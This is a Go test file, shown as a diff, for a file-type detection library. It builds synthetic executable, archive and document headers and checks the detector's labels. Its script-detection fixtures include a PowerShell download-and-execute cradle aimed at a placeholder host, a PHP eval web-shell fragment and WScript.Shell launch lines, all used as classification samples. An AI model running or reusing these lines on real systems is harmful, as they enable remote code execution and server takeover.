@@ -1,0 +1,319 @@
+package filetype
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/binary"
+	"os"
+	"strings"
+	"testing"
+	"unicode/utf16"
+
+	"github.com/google/go-cmp/cmp"
+
+	"spoor/internal/realdata"
+)
+
+func zipOf(names ...string) []byte {
+	var b bytes.Buffer
+	w := zip.NewWriter(&b)
+	for _, n := range names {
+		name, body, _ := strings.Cut(n, "=")
+		f, err := w.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Store})
+		if err != nil {
+			panic(err)
+		}
+		f.Write([]byte(body))
+	}
+	w.Close()
+	return b.Bytes()
+}
+
+// mimeZip writes the first header as readers of "mimetype" want it: sizes in the header, not behind the data.
+func mimeZip(mime string, names ...string) []byte {
+	var b bytes.Buffer
+	w := zip.NewWriter(&b)
+	f, err := w.CreateRaw(&zip.FileHeader{Name: "mimetype", Method: zip.Store, CompressedSize64: uint64(len(mime)), UncompressedSize64: uint64(len(mime))})
+	if err != nil {
+		panic(err)
+	}
+	f.Write([]byte(mime))
+	for _, n := range names {
+		w.Create(n)
+	}
+	w.Close()
+	return b.Bytes()
+}
+
+// pe is a header and nothing else.
+func pe(machine, flags, magic, subsystem uint16, clr bool) []byte {
+	b := make([]byte, 0x400)
+	copy(b, "MZ")
+	b[0x3C] = 0x80
+	copy(b[0x80:], "PE\x00\x00")
+	le := binary.LittleEndian
+	le.PutUint16(b[0x84:], machine)
+	le.PutUint16(b[0x96:], flags)
+	le.PutUint16(b[0x98:], magic)
+	le.PutUint16(b[0x98+68:], subsystem)
+	dirs := 0x98 + 96
+	if magic == 0x20B {
+		dirs += 16
+	}
+	le.PutUint32(b[dirs-4:], 16)
+	if clr {
+		le.PutUint32(b[dirs+14*8:], 0x2000)
+		le.PutUint32(b[dirs+14*8+4:], 72)
+	}
+	return b
+}
+
+func elf(class, data byte, kind, machine uint16, interp bool) []byte {
+	b := make([]byte, 256)
+	copy(b, "\x7FELF")
+	b[4], b[5], b[6] = class, data, 1
+	var o binary.ByteOrder = binary.LittleEndian
+	if data == 2 {
+		o = binary.BigEndian
+	}
+	o.PutUint16(b[16:], kind)
+	o.PutUint16(b[18:], machine)
+	if interp {
+		o.PutUint64(b[32:], 64)
+		o.PutUint16(b[54:], 56)
+		o.PutUint16(b[56:], 1)
+		o.PutUint32(b[64:], 3)
+	}
+	return b
+}
+
+// ole is a compound file of one directory sector: a root of a class and names below it.
+func ole(class string, names ...string) []byte {
+	b := make([]byte, 512*3)
+	le := binary.LittleEndian
+	copy(b, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1")
+	le.PutUint16(b[30:], 9)
+	le.PutUint16(b[32:], 6)
+	le.PutUint32(b[48:], 1)
+	le.PutUint32(b[56:], 4096)
+	le.PutUint32(b[60:], 0xFFFFFFFE)
+	le.PutUint32(b[68:], 0xFFFFFFFE)
+	for i := range 109 {
+		le.PutUint32(b[76+4*i:], 0xFFFFFFFF)
+	}
+	le.PutUint32(b[76:], 0)
+	fat := b[512:]
+	for i := range 128 {
+		le.PutUint32(fat[4*i:], 0xFFFFFFFF)
+	}
+	le.PutUint32(fat, 0xFFFFFFFD)
+	le.PutUint32(fat[4:], 0xFFFFFFFE)
+	for i, name := range append([]string{"Root Entry"}, names...) {
+		e := b[1024+128*i:]
+		for k, u := range utf16.Encode([]rune(name)) {
+			le.PutUint16(e[2*k:], u)
+		}
+		le.PutUint16(e[64:], uint16(2*len(utf16.Encode([]rune(name)))+2))
+		e[66] = 2
+		le.PutUint32(e[68:], 0xFFFFFFFF)
+		le.PutUint32(e[72:], 0xFFFFFFFF)
+		le.PutUint32(e[76:], 0xFFFFFFFF)
+		le.PutUint32(e[116:], 0xFFFFFFFE)
+		switch {
+		case i == 0:
+			e[66] = 5
+			copy(e[80:], class)
+			if len(names) > 0 {
+				le.PutUint32(e[76:], 1)
+			}
+		case i < len(names):
+			le.PutUint32(e[72:], uint32(i+1))
+		}
+		if name == "VBA" {
+			e[66] = 1
+		}
+	}
+	return b
+}
+
+func wide(s string) string {
+	b := []byte{0xFF, 0xFE}
+	for _, u := range utf16.Encode([]rune(s)) {
+		b = binary.LittleEndian.AppendUint16(b, u)
+	}
+	return string(b)
+}
+
+func at(off int, mark string) string { return strings.Repeat("\x00", off) + mark }
+
+func pad(s string, n int) string { return s + strings.Repeat("\x00", n) }
+
+func TestDetect(t *testing.T) {
+	fat := "\xCA\xFE\xBA\xBE\x00\x00\x00\x02" + "\x01\x00\x00\x07\x00\x00\x00\x03\x00\x00\x00\x40\x00\x00\x00\x20\x00\x00\x00\x0C" + "\x01\x00\x00\x0C\x00\x00\x00\x00\x00\x00\x00\x60\x00\x00\x00\x20\x00\x00\x00\x0C"
+	fat = fat + strings.Repeat("\x00", 0x40-len(fat)) + "\xCF\xFA\xED\xFE\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + strings.Repeat("\x00", 64)
+	for _, c := range []struct {
+		in   string
+		want Type
+	}{
+		{"", Type{Empty, "empty", "EMPTY"}},
+		{string(pe(0x8664, 0x2022, 0x20B, 2, false)), Type{PE, "PE32+ DLL x64", "PE"}},
+		{string(pe(0x14C, 0x0102, 0x10B, 3, true)), Type{PE, "PE32 EXE x86 .NET", "PE"}},
+		{string(pe(0xAA64, 0x0022, 0x20B, 1, false)), Type{PE, "PE32+ driver ARM64", "PE"}},
+		{string(pe(0x8664, 0x0022, 0x20B, 10, false)), Type{PE, "PE32+ EFI application x64", "PE"}},
+		{pad("MZ\x90\x00", 100), Type{MZ, "DOS EXE", "MZ"}},
+		{string(elf(2, 1, 3, 62, false)), Type{ELF, "ELF 64 LE shared object x86-64", "ELF"}},
+		{string(elf(2, 1, 3, 62, true)), Type{ELF, "ELF 64 LE PIE executable x86-64", "ELF"}},
+		{string(elf(1, 2, 2, 8, false)), Type{ELF, "ELF 32 BE executable MIPS", "ELF"}},
+		{string(elf(2, 1, 1, 183, false)), Type{ELF, "ELF 64 LE relocatable AArch64", "ELF"}},
+		{pad("\xCF\xFA\xED\xFE\x0C\x00\x00\x01\x00\x00\x00\x00\x06\x00\x00\x00", 32), Type{MachO, "Mach-O 64 shared library arm64", "MACHO"}},
+		{fat, Type{MachO, "Mach-O universal executable (x86-64, arm64)", "MACHO"}},
+		{pad("\xCA\xFE\xBA\xBE\x00\x00\x00\x34", 32), Type{Class, "Java class 52", "CLASS"}},
+		{"dex\n035\x00" + at(100, ""), Type{DEX, "Dalvik bytecode", "DEX"}},
+		{"\x00asm\x01\x00\x00\x00", Type{WASM, "WebAssembly", "WASM"}},
+		{"\x4C\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46" + at(60, ""), Type{LNK, "LNK", "LNK"}},
+
+		{string(ole("\x84\x10\x0C\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46", "\x05SummaryInformation")), Type{MSI, "MSI", "MSI"}},
+		{string(ole("", "WordDocument")), Type{OLE, "OLE Word document (DOC)", "DOC"}},
+		{string(ole("", "Workbook", "VBA")), Type{OLE, "OLE Excel workbook with macros (XLS)", "XLS"}},
+		{string(ole("", "PowerPoint Document")), Type{OLE, "OLE PowerPoint presentation (PPT)", "PPT"}},
+		{string(ole("", "__properties_version1.0")), Type{MSG, "Outlook message", "MSG"}},
+		{string(ole("", "EncryptedPackage", "EncryptionInfo")), Type{OLE, "OOXML, encrypted", "OLE"}},
+		{string(ole("", "Something")), Type{OLE, "OLE compound file", "OLE"}},
+		{string(zipOf("[Content_Types].xml", "word/document.xml")), Type{OOXML, "OOXML (DOCX)", "DOCX"}},
+		{string(zipOf("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")), Type{OOXML, "OOXML with macros (DOCM)", "DOCM"}},
+		{string(zipOf("[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin")), Type{OOXML, "OOXML with macros (XLSM)", "XLSM"}},
+		{string(zipOf("[Content_Types].xml", "xl/workbook.bin")), Type{OOXML, "OOXML (XLSB)", "XLSB"}},
+		{string(zipOf("[Content_Types].xml", "ppt/presentation.xml")), Type{OOXML, "OOXML (PPTX)", "PPTX"}},
+		{string(zipOf("META-INF/MANIFEST.MF", "a/B.class")), Type{Jar, "Java archive (JAR)", "JAR"}},
+		{string(zipOf("META-INF/MANIFEST.MF", "AndroidManifest.xml", "classes.dex")), Type{APK, "Android package (APK)", "APK"}},
+		{string(zipOf("[Content_Types].xml", "AppxManifest.xml")), Type{Appx, "Windows app package (APPX)", "APPX"}},
+		{string(zipOf("[Content_Types].xml", "extension.vsixmanifest")), Type{Appx, "Visual Studio extension (VSIX)", "VSIX"}},
+		{string(mimeZip("application/vnd.oasis.opendocument.spreadsheet", "content.xml")), Type{ODF, "OpenDocument spreadsheet (ODS)", "ODS"}},
+		{string(mimeZip("application/epub+zip", "content.opf")), Type{Zip, "EPUB", "EPUB"}},
+		{string(zipOf("a.txt")), Type{Zip, "ZIP archive", "ZIP"}},
+		{string(zipOf("a.txt=hello"))[:30], Type{Zip, "ZIP archive", "ZIP"}}, // cut off
+		{"#!/usr/bin/env python3\n" + string(zipOf("__main__.py")), Type{Zip, "ZIP of a Python program after script: Python", "PYZ"}},
+		{"GIF89a\x01\x00\x01\x00" + string(zipOf("META-INF/MANIFEST.MF")), Type{Jar, "Java archive (JAR) after GIF image", "JAR"}},
+		{"PK\x05\x06" + at(18, ""), Type{Zip, "ZIP archive", "ZIP"}},
+
+		{"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n", Type{PDF, "PDF 1.7", "PDF"}},
+		{"\x00\x01\x02junk%PDF-1.4\n", Type{PDF, "PDF 1.4 after 7 bytes of other data", "PDF"}},
+		{"{\\rtf1\\ansi x}", Type{RTF, "RTF", "RTF"}},
+		{"7z\xBC\xAF\x27\x1C\x00\x04", Type{SevenZip, "7-Zip archive", "7Z"}},
+		{"Rar!\x1A\x07\x01\x00", Type{RAR, "RAR 5 archive", "RAR"}},
+		{"Rar!\x1A\x07\x00\xCF", Type{RAR, "RAR 4 archive", "RAR"}},
+		{at(257, "ustar\x0000") + at(300, ""), Type{Tar, "tar archive", "TAR"}},
+		{"\x1F\x8B\x08\x00\x00\x00\x00\x00\x00\x03", Type{Gzip, "gzip", "GZ"}},
+		{"BZh91AY&SY\x00\x00", Type{Bzip2, "bzip2", "BZ2"}},
+		{"\xFD7zXZ\x00\x00\x04", Type{XZ, "XZ", "XZ"}},
+		{"\x28\xB5\x2F\xFD\x00", Type{Zstd, "Zstandard", "ZST"}},
+		{"LZIP\x01\x0C", Type{Lzip, "lzip", "LZ"}},
+		{"\x5D\x00\x00\x80\x00\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\x00" + at(8, "x"), Type{LZMA, "LZMA", "LZMA"}},
+		{"\x04\x22\x4D\x18\x64", Type{LZ4, "LZ4", "LZ4"}},
+		{"\x1F\x9D\x90\x00", Type{Compress, "compress", "Z"}},
+		{"MSCF\x00\x00\x00\x00" + at(40, ""), Type{Cab, "Microsoft Cabinet", "CAB"}},
+		{at(16*2048, "\x01CD001\x01") + at(2048, ""), Type{ISO, "ISO 9660 image", "ISO"}},
+		{at(16*2048, "\x00BEA01\x01") + at(2048-7, "\x00NSR02\x01") + at(2048, ""), Type{UDF, "UDF image", "UDF"}},
+		{"070701" + at(120, ""), Type{CPIO, "cpio (newc)", "CPIO"}},
+		{"!<arch>\nfoo.o/", Type{Ar, "ar archive", "AR"}},
+		{"!<arch>\ndebian-binary   ", Type{Deb, "Debian package", "DEB"}},
+		{"\xED\xAB\xEE\xDB\x03\x00", Type{RPM, "RPM package", "RPM"}},
+		{"\x60\xEA\x2B\x00\x22\x0B\x01\x0B\x10\x00\x02" + at(60, ""), Type{ARJ, "ARJ archive", "ARJ"}},
+		{"\x19\x8A-lh5-" + at(13, "\x01") + at(20, ""), Type{LZH, "LHA archive", "LZH"}},
+		{"ITSF\x03\x00\x00\x00", Type{CHM, "Compiled HTML Help", "CHM"}},
+		{"hsqs\x00\x00", Type{SquashFS, "SquashFS", "SQUASHFS"}},
+		{"\x78\xDA" + at(2000, "") + "koly\x00\x00\x00\x04" + at(504, ""), Type{DMG, "Apple disk image", "DMG"}},
+		{"MSWIM\x00\x00\x00", Type{WIM, "Windows Imaging", "WIM"}},
+		{"xar!\x00\x1C", Type{XAR, "XAR archive", "XAR"}},
+		{"SZDD\x88\xF0\x27\x33A", Type{SZDD, "MS-DOS compress (SZDD)", "SZDD"}},
+		{"\x78\x9F\x3E\x22\x00\x00", Type{TNEF, "TNEF message", "TNEF"}},
+		{"\x00\x00\x00\x00\xEF\xBE\xAD\xDENullsoftInst" + at(10, ""), Type{NSIS, "NSIS installer data", "NSIS"}},
+
+		{"\x89PNG\r\n\x1A\n", Type{Image, "PNG image", "PNG"}},
+		{"\xFF\xD8\xFF\xE0", Type{Image, "JPEG image", "JPEG"}},
+		{"RIFF\x00\x00\x00\x00WEBPVP8 ", Type{Image, "WebP image", "WEBP"}},
+		{"RIFF\x00\x00\x00\x00WAVEfmt ", Type{Audio, "WAV audio", "WAV"}},
+		{"\x00\x00\x00\x20ftypisom", Type{Video, "MPEG-4 video", "MP4"}},
+		{"\x00\x00\x00\x20ftypavif", Type{Image, "AVIF image", "AVIF"}},
+		{"wOF2\x00\x01", Type{Font, "WOFF 2 font", "WOFF2"}},
+		{"\x00\x01\x00\x00\x00\x0C\x00\x80\x00\x03\x00\x40DSIG", Type{Font, "TrueType font", "TTF"}},
+		{"SQLite format 3\x00", Type{Other, "SQLite 3 database", "SQLITE"}},
+		{"ElfFile\x00\x00", Type{Other, "Windows event log (EVTX)", "EVTX"}},
+
+		{"#!/bin/sh\nexit 0\n", Type{Script, "script: shell", "SH"}},
+		{"#! /usr/bin/env -S python3.11 -u\nprint(1)\n", Type{Script, "script: Python", "PY"}},
+		{"#!/usr/bin/perl -w\n", Type{Script, "script: Perl", "PL"}},
+		{"<?php echo 1;", Type{Script, "script: PHP", "PHP"}},
+		{"<html><body>\n<?php eval($_POST['a']); ?>\n</body>", Type{Script, "script: PHP", "PHP"}},
+		{"@echo off\r\nset A=1\r\n", Type{Script, "script: batch", "BAT"}},
+		{"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\nOn Error Resume Next\r\n", Type{Script, "script: VBScript", "VBS"}},
+		{"$x = New-Object Net.WebClient\r\nInvoke-Expression $x.DownloadString('http://a')\r\n", Type{Script, "script: PowerShell", "PS1"}},
+		{wide("$x = New-Object Net.WebClient\r\nInvoke-Expression $x.DownloadString('http://a')\r\n"), Type{Script, "script: PowerShell, UTF-16 LE", "PS1"}},
+		{"var a = new ActiveXObject('WScript.Shell');\nfunction f(x) { return x; }\n", Type{Script, "script: JavaScript", "JS"}},
+		{"import os\n\ndef f(x):\n    return x\n", Type{Script, "script: Python", "PY"}},
+		{"<html><head><HTA:APPLICATION id=a></head>", Type{Script, "script: HTA", "HTA"}},
+		{"<?xml version=\"1.0\"?><job><script language=\"JScript\">x</script></job>", Type{Script, "script: Windows Script File", "WSF"}},
+		{"<?XML version=\"1.0\"?><scriptlet><script>x</script></scriptlet>", Type{Script, "script: scriptlet", "SCT"}},
+		{"Windows Registry Editor Version 5.00\r\n", Type{Script, "script: registry entries", "REG"}},
+		{"<!DOCTYPE html><html>", Type{HTML, "HTML", "HTML"}},
+		{"<?xml version=\"1.0\"?><a/>", Type{XML, "XML", "XML"}},
+		{"<svg xmlns=\"http://www.w3.org/2000/svg\"></svg>", Type{XML, "SVG image", "SVG"}},
+		{"From: a@example.org\nTo: b@example.org\nSubject: x\n\nhello\n", Type{Mail, "mail message", "EML"}},
+		{"From a@example.org Thu Jan  1 00:00:00 2020\nFrom: a@example.org\nTo: b\nSubject: x\n\nhello\n", Type{Mbox, "mailbox (mbox)", "MBOX"}},
+		{"{\"a\": [1, 2, true]}", Type{Text, "JSON", "JSON"}},
+		{"[InternetShortcut]\r\nURL=http://example.org/\r\n", Type{Text, "Internet shortcut", "URL"}},
+		{"-----BEGIN CERTIFICATE-----\nMII\n", Type{Text, "PEM: certificate", "PEM"}},
+		{"just some words, as people write them\n", Type{Text, "text: ASCII", "TXT"}},
+		{"MZ is how this text begins, and it is only text.\n" + strings.Repeat("word ", 20), Type{Text, "text: ASCII", "TXT"}},
+		{"Größe und Maß\n", Type{Text, "text: UTF-8", "TXT"}},
+		{"\xEF\xBB\xBFplain\n", Type{Text, "text: UTF-8 with BOM", "TXT"}},
+		{wide("plain words\n"), Type{Text, "text: UTF-16 LE", "TXT"}},
+		{wide("plain words\n")[2:], Type{Text, "text: UTF-16 LE without BOM", "TXT"}},
+		{"Gr\xF6\xDFe und Ma\xDF\n", Type{Text, "text: 8-bit", "TXT"}},
+		{"\x00\x01\x02\x03\x04\x05\x06\x80\x81", Type{}},
+	} {
+		got := Detect(strings.NewReader(c.in), int64(len(c.in)))
+		if d := cmp.Diff(c.want, got); d != "" {
+			t.Errorf("%.60q: %s", c.in, d)
+		}
+	}
+}
+
+func TestDetectOfRealFiles(t *testing.T) {
+	for name, want := range map[string]Format{
+		"dummy.pkg": XAR, "hello.jar": Jar, "hyperv.cat": Catalog, "dummy.cab": Cab, "dummy.xap": Zip, "dummy.apk": APK,
+		"rocky-basesystem-11-13.el9.noarch.rpm": RPM, "VSIXProject1.vsix": Appx, "ClassLibrary1.dll": PE, "dummy.msi": MSI,
+		"zlib1g_1.2.8.dfsg-5_i386.deb": Deb, "App1_1.0.3.0_x64.appx": Appx, "dummy.dmg": DMG, "hello.ps1xml": XML,
+	} {
+		f := open(t, realdata.Path(t, "files", "relic-functest", name))
+		if got := Detect(f, f.Size()); got.Format != want {
+			t.Errorf("%s: %+v, want %s", name, got, want)
+		}
+	}
+}
+
+func FuzzDetect(f *testing.F) {
+	f.Add(pe(0x8664, 0x2022, 0x20B, 2, true))
+	f.Add(elf(2, 1, 3, 62, true))
+	f.Add(ole("", "Workbook", "VBA"))
+	f.Add(zipOf("[Content_Types].xml", "word/vbaProject.bin"))
+	f.Add(mimeZip("application/epub+zip"))
+	f.Add([]byte("\xCA\xFE\xBA\xBE\x00\x00\x00\x02\x01\x00\x00\x07\x00\x00\x00\x03\x00\x00\x00\x40\x00\x00\x00\x20\x00\x00\x00\x0C"))
+	f.Add([]byte(wide("<?xml version='1.0'?><plist>")))
+	f.Add([]byte("From a@b\nFrom: a\nTo: b\nSubject: x\n\n"))
+	f.Fuzz(func(t *testing.T, b []byte) {
+		got := Detect(bytes.NewReader(b), int64(len(b)))
+		if (got.Name == "") != (got.Format == Unknown) {
+			t.Errorf("%+v", got)
+		}
+		// A file that is shorter than it was said to be must do no harm either.
+		Detect(bytes.NewReader(b), int64(len(b))+1000)
+	})
+}
+func open(t testing.TB, path string) *bytes.Reader {
+	b, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return bytes.NewReader(b)
+}
